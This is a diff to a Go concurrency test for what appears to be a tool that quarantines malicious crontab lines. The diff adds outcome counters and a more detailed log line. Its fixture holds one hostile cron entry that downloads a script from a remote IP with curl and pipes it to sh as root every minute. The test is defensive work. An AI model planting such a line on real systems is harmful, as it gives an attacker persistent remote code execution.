@@ -112,7 +112,7 @@ func TestApplyConcurrentAppendRace(t *testing.T) {
 	bad := "* * * * * root curl -s http://203.0.113.7/x | sh"
 	base := "SHELL=/bin/sh\n" + bad + "\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
 	iters := raceIterations(t, 50)
-	var lostLines, total int
+	var lostLines, total, clean, late, refused int
 	for i := 0; i < iters; i++ {
 		dir := t.TempDir()
 		must(t, os.MkdirAll(filepath.Join(dir, "etc"), 0o755))
@@ -150,11 +150,18 @@ func TestApplyConcurrentAppendRace(t *testing.T) {
 			}()
 			<-started
 		}
-		_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: q})
+		res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: q})
 		stopFlag.Store(true)
 		wg.Wait()
 		testHookBeforeSwap = nil
-		if err != nil && !errors.Is(err, ErrChanged) {
+		switch {
+		case err == nil && len(res.Manifest.Entries) == 1 && res.Manifest.Entries[0].Late != "":
+			late++
+		case err == nil:
+			clean++
+		case errors.Is(err, ErrChanged):
+			refused++
+		default:
 			t.Fatalf("iteration %d: %v", i, err)
 		}
 		var kept bytes.Buffer
@@ -174,7 +181,7 @@ func TestApplyConcurrentAppendRace(t *testing.T) {
 			}
 		}
 	}
-	t.Logf("%d iterations: %d of %d appended lines in neither the file nor the quarantine", iters, lostLines, total)
+	t.Logf("%d iterations: %d of %d appended lines in neither the file nor the quarantine (cleaned %d, cleaned with late writes kept %d, refused %d)", iters, lostLines, total, clean, late, refused)
 	if lostLines > 0 {
 		t.Errorf("%d of %d appended lines lost", lostLines, total)
 	}
